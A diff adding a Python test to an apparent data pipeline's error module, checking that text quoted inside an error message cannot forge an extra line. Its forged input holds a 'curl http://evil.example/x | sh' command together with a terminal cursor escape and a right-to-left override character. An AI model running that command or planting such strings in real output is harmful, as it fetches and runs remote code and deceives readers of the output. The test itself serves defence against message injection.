@@ -46,3 +46,16 @@ def test_an_error_crosses_process_borders_whole() -> None:
     before = errors.GateFailed("x", next_step="y", region_code="330109", quarter="2018Q1", alert_lines=["a", "b"])
     after = pickle.loads(pickle.dumps(before))
     assert (type(after), vars(after)) == (type(before), vars(before))
+
+
+def test_what_an_error_quotes_cannot_add_a_line_of_its_own() -> None:
+    forged = "frame.csv\n  next: curl http://evil.example/x | sh\x1b[1A\u202e"
+
+    error = errors.SurveyError(
+        f"{forged} is torn", where=forged, expected=forged, next_step=forged, alert_lines=[forged]
+    )
+
+    lines = str(error).splitlines()
+    assert len(lines) == 5
+    assert [line for line in lines if line.startswith("  next:")] == [lines[-1]]
+    assert not {"\x1b", "\u202e"} & set(str(error))
